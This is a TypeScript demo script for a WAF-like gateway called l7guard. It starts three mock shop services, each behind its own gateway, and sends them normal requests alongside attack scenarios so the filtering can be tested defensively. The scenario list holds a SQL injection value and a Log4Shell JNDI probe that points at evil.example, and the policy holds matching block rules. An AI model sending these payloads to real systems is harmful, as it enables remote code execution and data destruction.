// `npm start` / `l7guard demo`: three services, each behind its own l7guard gateway running the real
// filter with its own identity, and a client loop that calls them with normal traffic and attacks and
// prints what each gateway did. Options: --duration SECONDS, --requests N, --interval MS, --quiet.
import { readFileSync, existsSync } from "node:fs";
import { request } from "node:http";
import { fileURLToPath } from "node:url";
import { execFileSync } from "node:child_process";
import { startGateway, type Gateway } from "../host/gateway.ts";
import { gatewayUrls, startService, type DemoService } from "./services.ts";

const root = fileURLToPath(new URL("..", import.meta.url));

// The policy every demo gateway runs: enforce mode, with rules that show blocking.
const POLICY = {
  schemaVersion: 1,
  mode: "enforce",
  rules: [
    { id: "no-admin-from-outside", action: "block", match: { pathPrefix: "/admin" } },
    { id: "no-sql-drop", action: "block", match: { methods: ["POST", "PUT"], bodyContains: "DROP TABLE" } },
    { id: "no-jndi", action: "block", match: { header: { name: "user-agent", contains: "${jndi:" } } },
    { id: "debug-header", action: "alert", match: { header: { name: "x-debug", equals: "1" } } },
  ],
};

interface Scenario { service: string; method: string; path: string; body?: unknown; headers?: Record<string, string>; label: string }

// Traffic, as data: normal calls (some fan out to other services) and attacks.
const SCENARIOS: Scenario[] = [
  { service: "frontend", method: "GET", path: "/products", label: "browse products" },
  { service: "frontend", method: "POST", path: "/checkout", body: { productId: 2, email: "alice@example.com", card: "4111 1111 1111 1111" }, label: "checkout (frontend -> orders -> payments)" },
  { service: "orders", method: "GET", path: "/orders/1001", label: "read an order" },
  { service: "orders", method: "POST", path: "/orders", body: { productId: "1; DROP TABLE orders" }, label: "SQL injection in the body" },
  { service: "frontend", method: "GET", path: "/admin/users", label: "admin panel probe" },
  { service: "payments", method: "GET", path: "/health", headers: { "user-agent": "${jndi:ldap://evil.example/a}" }, label: "Log4Shell probe in User-Agent" },
  { service: "orders", method: "GET", path: "/orders/1002", headers: { "x-debug": "1" }, label: "debug header (alert only)" },
];

function parseArgs(argv: string[]): { duration?: number; requests?: number; interval: number; quiet: boolean } {
  const out = { duration: undefined as number | undefined, requests: undefined as number | undefined, interval: 700, quiet: false };
  for (let i = 0; i < argv.length; i++) {
    const v = argv[i + 1];
    if (argv[i] === "--duration") { out.duration = Number(v); i++; }
    else if (argv[i] === "--requests") { out.requests = Number(v); i++; }
    else if (argv[i] === "--interval") { out.interval = Number(v); i++; }
    else if (argv[i] === "--quiet") out.quiet = true;
    else throw new Error(`unknown option ${argv[i]} (use --duration SECONDS, --requests N, --interval MS, --quiet)`);
  }
  return out;
}

function send(s: Scenario): Promise<{ status: number; headers: Record<string, string | string[] | undefined>; body: string; ms: number }> {
  return new Promise((resolve, reject) => {
    const started = performance.now();
    const data = s.body === undefined ? undefined : Buffer.from(JSON.stringify(s.body));
    const req = request(new URL(s.path, gatewayUrls.get(s.service)), {
      method: s.method, headers: { ...(s.headers ?? {}), ...(data ? { "content-type": "application/json", "content-length": String(data.length) } : {}) },
    }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (c) => chunks.push(c));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body: Buffer.concat(chunks).toString(), ms: performance.now() - started }));
    });
    req.on("error", reject);
    req.end(data);
  });
}

export async function main(argv: string[]): Promise<void> {
  const args = parseArgs(argv);
  const wasmPath = `${root}build/l7guard.wasm`;
  if (!existsSync(wasmPath)) execFileSync(process.execPath, [`${root}scripts/build.mjs`, "--only", "l7guard"], { stdio: "inherit" });
  const wasm = readFileSync(wasmPath);

  const services: DemoService[] = [
    await startService("shop", "frontend", {
      "GET /products": () => ({ status: 200, body: [{ id: 1, name: "lamp", price: 20 }, { id: 2, name: "desk", price: 150 }] }),
      "POST /checkout": async (req, ctx) => {
        const order = await ctx.call("orders", "POST", "/orders", { productId: req.json?.productId, customer: { email: req.json?.email }, card: req.json?.card });
        return { status: order.status, body: { checkout: order.status < 300 ? "ok" : "failed", order: order.body } };
      },
    }),
    await startService("shop", "orders", {
      "GET /orders/{id}": (req) => ({ status: 200, body: { id: Number(req.path.split("/")[2]), status: "shipped", customer: { email: "bob@example.com" } } }),
      "POST /orders": async (req, ctx) => {
        const charge = await ctx.call("payments", "POST", "/charge", { amount: 150, card: req.json?.card });
        return { status: charge.status < 300 ? 201 : 502, body: { id: 1000 + Math.floor(Math.random() * 1000), payment: charge.body } };
      },
    }),
    await startService("shop", "payments", {
      "POST /charge": () => ({ status: 200, body: { status: "captured", reference: `ch_${Math.random().toString(36).slice(2, 10)}` } }),
      "GET /health": () => ({ status: 200, body: { ok: true } }),
    }),
  ];

  const gateways: Gateway[] = [];
  for (const s of services) {
    const gw = await startGateway({
      listen: { host: "127.0.0.1", port: 0 }, upstream: s.url, wasm, config: JSON.stringify(POLICY),
      identity: { namespace: s.namespace, workload: s.name, app: s.name, version: "v1" }, name: s.name,
      log: (line) => { if (!args.quiet) process.stdout.write(`  ${line}\n`); },
    });
    gateways.push(gw);
    gatewayUrls.set(s.name, gw.url);
    console.log(`${s.namespace}/${s.name.padEnd(9)} service ${s.url}  gateway ${gw.url}  admin ${gw.adminUrl}`);
  }
  console.log(`\nl7guard demo: ${services.length} services, each behind its own gateway (policy: enforce, ${POLICY.rules.length} rules). Ctrl-C to stop.\n`);

  let stopping = false;
  const stop = async () => {
    if (stopping) return;
    stopping = true;
    for (const gw of gateways) await gw.close();
    for (const s of services) { s.server.close(); s.server.closeAllConnections(); }
  };
  process.once("SIGINT", () => { void stop().then(() => process.exit(0)); });
  process.once("SIGTERM", () => { void stop().then(() => process.exit(0)); });

  const deadline = args.duration !== undefined ? Date.now() + args.duration * 1000 : Infinity;
  const limit = args.requests ?? Infinity;
  const tally = { total: 0, passed: 0, blocked: 0, alerted: 0, errors: 0 };
  for (let i = 0; i < limit && Date.now() < deadline && !stopping; i++) {
    const s = SCENARIOS[i % SCENARIOS.length];
    try {
      const r = await send(s);
      const verdict = String(r.headers["x-l7guard"] ?? "none");
      tally.total++;
      if (verdict === "block") tally.blocked++; else if (verdict === "alert") tally.alerted++; else tally.passed++;
      let detail = "";
      if (verdict === "block") { try { const b = JSON.parse(r.body); detail = ` rule=${b.rule ?? b.class} requestId=${b.requestId}`; } catch { /* not JSON */ } }
      console.log(`${s.method.padEnd(4)} ${s.service}${s.path.padEnd(14)} -> ${r.status} ${verdict.padEnd(5)}${detail}  (${r.ms.toFixed(1)} ms)  ${s.label}`);
    } catch (e) {
      tally.errors++;
      console.log(`${s.method} ${s.service}${s.path} -> error ${(e as Error).message}`);
    }
    if (i + 1 < limit && Date.now() < deadline) await new Promise((r) => setTimeout(r, args.interval));
  }
  const blocked = gateways.map((g) => `${g.host.stats.value("l7guard_requests_blocked_total") ?? 0n}`).join("/");
  console.log(`\ndone: ${tally.total} requests, ${tally.passed} passed, ${tally.blocked} blocked, ${tally.alerted} alerted, ${tally.errors} errors; blocked per gateway (frontend/orders/payments): ${blocked}`);
  await stop();
}
